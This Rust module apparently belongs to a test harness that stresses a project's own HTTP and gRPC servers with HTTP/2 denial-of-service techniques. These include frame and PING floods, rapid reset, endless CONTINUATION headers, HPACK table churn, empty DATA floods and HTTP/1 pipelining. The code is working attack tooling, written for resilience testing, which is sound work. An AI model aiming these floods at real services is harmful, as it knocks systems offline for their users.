//! Frames and requests that cost the attacker next to nothing.

use std::{io, net::SocketAddr};

use tokio::{
    io::{AsyncWriteExt, BufReader},
    net::TcpStream,
    task::yield_now,
};

use crate::{
    attacker::{Attacker, drained, repeat},
    frames::{self, END_HEADERS, END_STREAM},
};

/// Connections to each of the two listeners.
const EACH: usize = 10;
/// Frames or requests that are written at once.
const BURST: usize = 500;
/// Requests on their way on a connection: fewer than its streams, so that none is refused.
const OPEN_MAX: usize = 200;

const CHECK: &str = "/scheduler.Scheduler/CheckPrime";
/// `PrimeRequest { number: 17 }`.
const SEVENTEEN: &[u8] = &[8, 17];

fn both(attacker: &Attacker) -> [SocketAddr; 2] {
    [attacker.http, attacker.grpc]
}

/// SETTINGS, PRIORITY, WINDOW_UPDATE and unknown frames.
pub fn frames(attacker: &mut Attacker) {
    for to in both(attacker) {
        attacker.connections(3, to, |stream| flood(stream, frames::settings(&[])));
        attacker.connections(3, to, |stream| {
            flood(stream, frames::frame(frames::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]))
        });
        attacker.connections(2, to, |stream| flood(stream, frames::window_update(0, 1)));
        attacker.connections(2, to, |stream| flood(stream, frames::frame(frames::UNKNOWN, 0, 0, b"")));
    }
}

/// The same frame for ever; answers are read.
async fn flood(stream: TcpStream, frame: Vec<u8>) -> io::Result<()> {
    drained(stream, |mut writer| async move {
        // Without a raised window, so that increments of it have room.
        writer.write_all(&frames::opening_unread()).await?;
        repeat(&mut writer, &frame.repeat(BURST)).await
    })
    .await
}

/// PING, of which no answer is read.
pub fn pings(attacker: &mut Attacker) {
    for to in both(attacker) {
        attacker.connections(EACH, to, |mut stream| async move {
            stream.write_all(&frames::opening()).await?;
            repeat(&mut stream, &frames::frame(frames::PING, 0, 0, b"hostile!").repeat(BURST)).await
        });
    }
}

/// Requests with 15 KiB of fields, and with trailers.
pub fn heads(attacker: &mut Attacker) {
    let long = |id| {
        let value = "x".repeat(1000);
        let fields: Vec<(&str, &str)> = (0..15).map(|_| ("x-long", value.as_str())).collect();
        frames::request(id, END_STREAM, "GET", "/livez", &fields)
    };
    let trailers = |id| {
        let trailer = frames::head(id, END_STREAM, &[("x-trailer", "value"); 100]);
        [frames::request(id, 0, "POST", "/prime", &[]), frames::data(id, b"{}"), trailer].concat()
    };
    for to in both(attacker) {
        attacker.connections(EACH / 2, to, move |stream| requests(stream, long));
        attacker.connections(EACH / 2, to, move |stream| requests(stream, trailers));
    }
}

/// Calls that are over before they are read.
pub fn deadlines(attacker: &mut Attacker) {
    let call = |id| {
        let message = frames::message(SEVENTEEN.len(), SEVENTEEN);
        let data = frames::frame(frames::DATA, END_STREAM, id, &message);
        [frames::call(id, CHECK, &[("grpc-timeout", "1n")]), data].concat()
    };
    attacker.connections(2 * EACH, attacker.grpc, move |stream| requests(stream, call));
}

/// Keeps as many requests open as the server takes.
async fn requests(stream: TcpStream, open: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let (reader, mut writer) = stream.into_split();
    let mut reader = BufReader::new(reader);
    writer.write_all(&frames::opening()).await?;
    let (mut id, mut count) = (1, 0);
    loop {
        let more: Vec<u8> = (count..OPEN_MAX).zip((id..).step_by(2)).flat_map(|(_, id)| open(id)).collect();
        id += 2 * u32::try_from(OPEN_MAX - count).unwrap();
        writer.write_all(&more).await?;
        count = OPEN_MAX;
        while count > OPEN_MAX / 2 {
            let frame = frames::read(&mut reader).await?;
            count -= usize::from(frame.ends());
            if frame.kind == frames::GOAWAY {
                return Ok(());
            }
        }
    }
}

/// Calls that are reset as soon as they are sent (rapid reset).
pub fn resets(attacker: &mut Attacker) {
    for to in both(attacker) {
        attacker.connections(EACH, to, |stream| async {
            streams(stream, |id| [frames::call(id, CHECK, &[]), frames::reset(id)].concat()).await
        });
    }
}

/// New streams for ever, whatever is answered, which is read.
async fn streams(stream: TcpStream, open: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    drained(stream, |mut writer| async move {
        writer.write_all(&frames::opening()).await?;
        for id in (1..).step_by(2) {
            writer.write_all(&open(id)).await?;
            yield_now().await;
        }
        Ok(())
    })
    .await
}

/// A head that goes on in CONTINUATION frames and never ends.
pub fn continuations(attacker: &mut Attacker) {
    for to in both(attacker) {
        attacker.connections(EACH, to, |stream| async {
            drained(stream, |mut writer| async move {
                let fields = frames::request_fields("GET", "/livez", &[]);
                let begin = frames::frame(frames::HEADERS, END_STREAM, 1, &frames::block(&fields));
                writer.write_all(&[frames::opening(), begin].concat()).await?;
                let more = frames::frame(frames::CONTINUATION, 0, 1, &frames::block(&[("x-more", "value")]));
                repeat(&mut writer, &[more, frames::frame(frames::CONTINUATION, 0, 1, &[])].concat()).await
            })
            .await
        });
    }
}

/// Heads that resize the decoder's table, fill it, and empty it again; and SETTINGS that do so with the encoder's.
pub fn tables(attacker: &mut Attacker) {
    let open = |id: u32| {
        let value = format!("{id:0>3000}");
        let fields = frames::block_indexed(&frames::request_fields("GET", "/livez", &[("x-fill", &value)]));
        let block = [frames::table_size(0), frames::table_size(4096), fields].concat();
        let resize = frames::settings(&[(frames::HEADER_TABLE_SIZE, id % 2 * 65_536)]);
        [resize, frames::frame(frames::HEADERS, END_HEADERS | END_STREAM, id, &block)].concat()
    };
    for to in both(attacker) {
        attacker.connections(EACH, to, move |stream| requests(stream, open));
    }
}

/// DATA frames of nothing, which no window bounds.
pub fn empty_data(attacker: &mut Attacker) {
    attacker.connections(EACH, attacker.http, |stream| empty_bodies(stream, "/prime"));
    attacker.connections(EACH, attacker.grpc, |stream| empty_bodies(stream, CHECK));
}

async fn empty_bodies(stream: TcpStream, path: &str) -> io::Result<()> {
    drained(stream, |mut writer| async move {
        let opening = [frames::opening(), frames::call(1, path, &[])].concat();
        writer.write_all(&opening).await?;
        repeat(&mut writer, &frames::data(1, b"").repeat(BURST)).await
    })
    .await
}

/// Thousands of requests of HTTP/1 behind one another.
pub fn pipelining(attacker: &mut Attacker) {
    attacker.connections(2 * EACH, attacker.http, |stream| async {
        drained(stream, |mut writer| async move {
            repeat(&mut writer, &b"GET /livez HTTP/1.1\r\nHost: node\r\n\r\n".repeat(BURST)).await
        })
        .await
    });
}
